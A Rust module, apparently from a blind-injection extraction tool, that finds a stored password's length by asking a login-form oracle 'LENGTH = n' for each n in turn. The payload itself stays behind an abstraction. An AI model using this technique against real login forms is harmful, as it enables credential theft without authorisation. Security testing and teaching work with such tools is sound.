use crate::extract::progress::ProgressSink;
use crate::oracle::{Condition, Oracle};

/// Largest length probed when none is configured
pub const DEFAULT_MAX_LENGTH: usize = 100;

const PROGRESS_EVERY: usize = 20;

/// Find the stored value's length by asking `LENGTH(..) = n` for n = 1..=max_length.
///
/// Returns the first n the oracle confirms, or `None` once the range is exhausted.
/// A linear scan rather than a bisection: each probe is an equality, which is all the
/// login form can answer reliably.
pub async fn discover_length<O: Oracle, P: ProgressSink + ?Sized>(
    oracle: &O,
    max_length: usize,
    progress: &P,
) -> anyhow::Result<Option<usize>> {
    progress.length_started(max_length);

    for n in 1..=max_length {
        if oracle.check(&Condition::LengthEquals(n)).await? {
            tracing::info!(length = n, "password length found");
            progress.length_found(n);
            return Ok(Some(n));
        }

        if n % PROGRESS_EVERY == 0 {
            progress.length_progress(n);
        }
    }

    tracing::warn!(max_length, "password length not found");
    progress.length_not_found(max_length);
    Ok(None)
}
